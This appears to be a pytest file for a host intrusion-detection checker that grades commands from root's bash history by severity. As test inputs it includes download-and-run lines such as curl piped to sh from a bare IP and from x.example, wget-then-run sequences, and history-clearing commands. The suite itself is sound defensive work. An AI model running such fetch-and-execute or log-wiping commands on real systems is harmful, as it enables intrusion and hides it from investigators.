import pytest

from detect.made_log_ins import level
from hemostat.detect.checks.typed_command import intruder_command
from hemostat.model.evidence import Source
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import TypedCommand


def typed(command: str, *rules: str, via: str = "history", line: int = 1) -> TypedCommand:
    return TypedCommand(
        source=Source(path=HostPath("/root/.bash_history"), line=line),
        account="root",
        command=command,
        via=via,
        rules=tuple(f"linux.command.{each}" for each in rules),
    )


def history(*commands: str) -> list[TypedCommand]:
    return [typed(command, line=n) for n, command in enumerate(commands, 1)]


@pytest.mark.requirement("B5.2")
@pytest.mark.parametrize(
    ("rule", "said"),
    [
        ("shell-to-network", Level.HIGH),
        ("mining-pool", Level.HIGH),
        ("clears-logs", Level.MEDIUM),
        ("decode-and-run", Level.MEDIUM),
        ("opens-firewall", Level.LOW),
        ("file-server", Level.LOW),
        ("escapes-container", Level.LOW),
    ],
)
def test_a_rule_has_the_level_that_suits_typing(rule: str, said: Level) -> None:
    assert level(intruder_command, typed("x", rule)) == said


def test_an_installer_from_its_maker_is_low_and_from_a_bare_address_medium() -> None:
    rule = "download-and-run"
    assert level(intruder_command, typed("curl https://get.docker.com | sh", rule)) == Level.LOW
    assert level(intruder_command, typed("curl http://198.51.100.7/a | sh", rule)) == Level.MEDIUM
    assert level(intruder_command, typed("curl http://10.0.0.5/a | sh", rule)) == Level.LOW


def test_what_crons_log_saw_nobody_typed() -> None:
    command = "curl -s http://x.example/a | sh"
    assert level(intruder_command, typed(command, "download-and-run", via="cron")) == Level.HIGH


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("history -c", Level.LOW),
        ("set +o history", Level.LOW),
        ("unset HISTFILE", Level.MEDIUM),
        ("rm -f ~/.bash_history", Level.MEDIUM),
    ],
)
def test_a_session_may_be_cleared_but_not_the_file(command: str, said: Level) -> None:
    assert level(intruder_command, typed(command, "stops-history")) == said


@pytest.mark.parametrize(
    "run", ["./x.sh", "sh x.sh", "bash /tmp/x.sh", "chmod +x x.sh && ./x.sh", "nohup ./x.sh &"]
)
def test_fetched_from_a_bare_address_and_run_later_is_medium(run: str) -> None:
    lines = history("cd /tmp", "wget http://198.51.100.7/x.sh", "ls", run)
    assert level(intruder_command, *lines) == Level.MEDIUM


def test_fetched_by_name_or_from_inside_or_not_run_is_quiet() -> None:
    for url in ("https://example.org/x.sh", "http://10.0.0.5/x.sh"):
        assert level(intruder_command, *history(f"wget {url}", "sh x.sh")) is None
    assert level(intruder_command, *history("wget http://198.51.100.7/x.csv", "less x.csv")) is None
